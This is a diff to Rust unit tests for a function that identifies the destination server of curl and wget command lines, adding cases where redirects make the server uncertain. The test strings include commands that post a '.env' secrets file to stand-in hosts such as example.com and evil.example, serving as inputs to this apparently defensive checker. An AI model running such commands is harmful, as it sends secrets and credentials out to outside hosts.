@@ -79,10 +79,10 @@ mod tests {
     fn a_server_is_named_only_where_the_words_leave_no_doubt() {
         for (line, server) in [
             ("curl -d @.env https://example.com/collect", "example.com"),
-            ("curl -fsSL -X POST --data-binary @a https://Example.com:8443/a/b", "example.com:8443"),
+            ("curl -fsS -X POST --data-binary @a https://Example.com:8443/a/b", "example.com:8443"),
             ("curl https://a.example/1 https://b.example/2 https://a.example/3", "a.example, b.example"),
             ("curl -s example.com/a", "example.com"),
-            ("wget -q -O out https://example.com/a", "example.com"),
+            ("wget -q --max-redirect=0 -O out https://example.com/a", "example.com"),
             ("sudo curl https://example.com", "example.com"),
         ] {
             assert_eq!(to(line).as_deref(), Some(server), "{line}");
@@ -91,6 +91,16 @@ mod tests {
             "curl -x https://proxy.example https://example.com",
             "curl --connect-to ::evil.example: https://example.com",
             "curl -K config https://example.com",
+            // A redirect leads elsewhere, with the same body.
+            "curl -fsSL -d @.env https://example.com",
+            "curl --location https://example.com",
+            "curl --location-trusted https://example.com",
+            "wget -q -O out https://example.com/a",
+            "wget --post-file=.env https://example.com/a",
+            "wget --max-redirect=0 --max-redirect=5 https://example.com",
+            "wget --max-redirect=0 '--max-redirect=5' https://example.com",
+            "wget --max-redirect=5 https://example.com",
+            "wget -- --max-redirect=0 https://example.com",
             "curl https://example.com https://$HOST/",
             "curl \"https://$HOST/\"",
             "curl https://user@example.com/",
